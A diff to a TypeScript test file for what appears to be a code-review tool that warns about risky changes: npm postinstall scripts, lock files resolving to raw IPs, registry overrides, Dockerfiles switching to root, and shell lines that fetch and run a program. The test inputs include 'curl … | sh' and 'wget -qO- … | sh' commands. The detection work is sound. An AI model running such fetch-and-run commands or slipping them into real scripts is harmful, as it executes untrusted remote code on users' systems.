@@ -268,7 +268,8 @@ describe("files beside the program", () => {
       texts.forEach((text, i) => {
         const to = join(at, ["base", "head"][i]!, file);
         mkdirSync(dirname(to), { recursive: true });
-        if (text !== undefined) writeFileSync(to, text);
+        if (text === undefined) rmSync(to, { force: true });
+        else writeFileSync(to, text);
       });
     }
     const folders = { base: join(at, "base"), head: join(at, "head") };
@@ -359,6 +360,45 @@ describe("files beside the program", () => {
     assert.deepEqual(look({ ".github/workflows/a.yml": ["a: 1", "a: 1 # one"] }).unchecked, []);
   });
 
+  it("npm's: each is judged as what it is", () => {
+    const told = (file: string, before: string | undefined, after: string | undefined) => {
+      const { files, warnings, unchecked } = look({ [file]: [before, after] });
+      assert.deepEqual(files, [file]);
+      return [warnings, unchecked.length];
+    };
+    const scripts = JSON.stringify({ scripts: { postinstall: "node a.js" } });
+    assert.deepEqual(told("package.json", "{}", scripts), [["security! package.json"], 0]);
+    assert.deepEqual(told("package.json", undefined, scripts), [["security! package.json"], 0]);
+    assert.deepEqual(told("package.json", scripts, "{}"), [[], 0]);
+    const lock = JSON.stringify({ packages: { "node_modules/a": { resolved: "http://192.0.2.1/a", integrity: "a" } } });
+    assert.deepEqual(told("package-lock.json", "{}", lock), [["security! package-lock.json"], 1]);
+    assert.deepEqual(told("package-lock.json", lock, undefined), [["security! package-lock.json"], 0]);
+    assert.deepEqual(told(".npmrc", undefined, "registry=https://example.org\n"), [["security! .npmrc"], 0]);
+    for (const file of ["npm-shrinkwrap.json", "binding.gyp"]) {
+      assert.deepEqual(told(file, undefined, "{}"), [[`security! ${file}`], 0]);
+      assert.deepEqual(told(file, "{}", undefined), [[], 0]);
+    }
+    const { unchecked } = look({ "package.json": ["{}", "{"] });
+    assert.match(String(unchecked), /^`package\.json`: the review does not know this file/);
+  });
+
+  it("that fetch a program and run it, wherever that is written, cut off where it is long", () => {
+    const line = `curl https://example.org/${"a".repeat(100)} | sh`;
+    const text = (more: string) => `echo "\`id\`"\n${more}`;
+    mkdirSync(join(at, "base/tools"), { recursive: true });
+    mkdirSync(join(at, "head/tools"), { recursive: true });
+    writeFileSync(join(at, "base/tools/a.sh"), text(""));
+    writeFileSync(join(at, "head/tools/a.sh"), text(`${line}\nwget -qO- \`a\` | sh\n`));
+    const { warnings } = lookInto(["tools/a.sh"], { base: join(at, "base"), head: join(at, "head") }, "dev");
+    assert.deepEqual(
+      warnings.map(({ lab, dangerous, text }) => [lab, dangerous, /^`(.*)` fetches a program/.exec(text.en)?.[1]]),
+      [
+        ["tools/a.sh", true, `${line.slice(0, 99)}…`],
+        ["tools/a.sh", true, "wget -qO- 'a' | sh"],
+      ],
+    );
+  });
+
   it("another place for the state", () => {
     const url = (url: string) => `name: course-labs\nbackend:\n  url: ${url}\n`;
     assert.deepEqual(look({ "Pulumi.yaml": [url("file://."), url("file:///srv")] }).warnings, [
@@ -381,5 +421,8 @@ describe("files beside the program", () => {
     });
     assert.deepEqual(warnings, ["security! docker/redis/Dockerfile"]);
     assert.match(String(unchecked), /^`docker\/run\.sh`: its content was not checked/);
+    const elsewhere = look({ "tools/a/Dockerfile": ["FROM a\nUSER a\n", "FROM a\nUSER root\n"] });
+    assert.deepEqual(elsewhere.warnings, ["security! tools/a/Dockerfile"]);
+    assert.match(String(elsewhere.unchecked), /^`tools\/a\/Dockerfile`: it runs on this machine/);
   });
 });
